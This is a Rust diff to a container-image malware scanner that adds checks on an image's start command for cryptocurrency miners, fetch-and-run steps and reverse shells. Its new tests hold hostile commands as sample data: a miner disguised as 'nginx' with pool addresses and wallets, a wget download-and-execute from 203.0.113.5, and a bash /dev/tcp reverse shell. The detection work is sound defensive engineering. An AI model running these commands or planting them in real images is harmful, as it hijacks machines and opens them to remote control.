@@ -3,6 +3,8 @@
 //!   droppers, wallets); shell-form (`sh -c "..."`) is split into the commands it runs, and
 //!   each program is resolved against the image's `PATH` and the final filesystem (inside
 //!   the image only, symlinks followed there): a miner by name is `IMG-MINER-BINARY`.
+//! - Entrypoint + Cmd as a command sequence: what it does ([`crate::behaviour`]: a miner
+//!   command line under any name, fetch-and-run, reverse shells, ...), as run (HIGH).
 //! - Env: each value is checked like a script, for wallets, and for cloud keys (`AKIA…`
 //!   together with `AWS_SECRET_ACCESS_KEY`).
 //! - ExposedPorts: ports pools listen on (LOW on their own).
@@ -43,6 +45,21 @@ pub fn commands(argv: &[String]) -> Vec<Vec<String>> {
             .collect(),
         None if argv.is_empty() => vec![],
         None => vec![argv.to_vec()],
+    }
+}
+
+/// The start command as one command sequence for [`crate::behaviour::judge`]: the
+/// script's commands for shell form, else the argv itself.
+pub fn start_sequence(argv: &[String]) -> Vec<crate::behaviour::ShellCommand> {
+    match crate::shell::shell_script(argv) {
+        Some(script) => crate::behaviour::script_commands(script),
+        None if argv.is_empty() => vec![],
+        None => vec![crate::behaviour::ShellCommand {
+            text: shell_words::join(argv),
+            words: argv.to_vec(),
+            line: 1,
+            after: crate::behaviour::Sep::Start,
+        }],
     }
 }
 
@@ -101,6 +118,8 @@ impl Analyzer for ConfigAnalyzer {
             let text = argv.join(" ");
             out.extend(content::scan_text(&self.sigs, &text, &subject));
             out.extend(wallet::scan_text(&text, &subject));
+            let found = crate::behaviour::judge(&self.sigs.behaviour, &start_sequence(&argv));
+            out.extend(crate::behaviour::signals(found, &subject, true));
             let path_var = cfg.env_var("PATH").unwrap_or(DEFAULT_PATH);
             let workdir = if cfg.working_dir.is_empty() {
                 "/"
@@ -293,6 +312,71 @@ mod tests {
                 ("IMG-POOL-ENDPOINT".into(), Severity::Low),
                 ("IMG-WALLET".into(), Severity::High),
             ]
+        );
+    }
+
+    #[test]
+    fn miner_command_line_under_any_name() {
+        let w = "43zqYTWj1JG1H1idZFQWwJZLTos3hbJ5iR3tJpEtwEi43UBbzPeaQxCRysdjYTtdc8aHao7csiWa5BTP9PfNYzyfSbbrwoR";
+        // The grammar alone (short options no literal knows, an unchecked wallet): HIGH.
+        let cfg = ImageConfig {
+            cmd: [
+                "nginx",
+                "-o",
+                "203.0.113.5:8080",
+                "-u",
+                "0x27cd1fe7c5946611d70f45d0d89c514f4106a08f",
+                "-a",
+                "ethash",
+            ]
+            .map(String::from)
+            .to_vec(),
+            ..Default::default()
+        };
+        assert_eq!(
+            run(cfg, &["usr/sbin/nginx"]),
+            [("IMG-MINER-COMMAND".into(), Severity::High)]
+        );
+        // With `--donate-level` the miner strings agree: two threat components, CRITICAL.
+        let cfg = ImageConfig {
+            cmd: [
+                "nginx",
+                "-o",
+                "203.0.113.5:3333",
+                "-u",
+                "WALLET",
+                "--donate-level",
+                "1",
+            ]
+            .map(String::from)
+            .to_vec(),
+            ..Default::default()
+        };
+        assert_eq!(
+            run(cfg, &["usr/sbin/nginx"]),
+            [("IMG-MINER-COMMAND".into(), Severity::Critical)]
+        );
+        // Shell form: a fetched file run with the miner's options; with a wallet: CRITICAL.
+        let cfg = ImageConfig {
+            entrypoint: vec!["/bin/sh".into(), "-c".into()],
+            cmd: vec![format!(
+                "cd /tmp && wget -q http://203.0.113.5/n && chmod +x n && exec ./n -o 203.0.113.5:80 -u {w}"
+            )],
+            ..Default::default()
+        };
+        assert_eq!(
+            run(cfg, &[]),
+            [("IMG-MINER-COMMAND".into(), Severity::Critical)]
+        );
+        let cfg = ImageConfig {
+            cmd: ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"]
+                .map(String::from)
+                .to_vec(),
+            ..Default::default()
+        };
+        assert_eq!(
+            run(cfg, &[]),
+            [("IMG-REVERSE-SHELL".into(), Severity::High)]
         );
     }
 
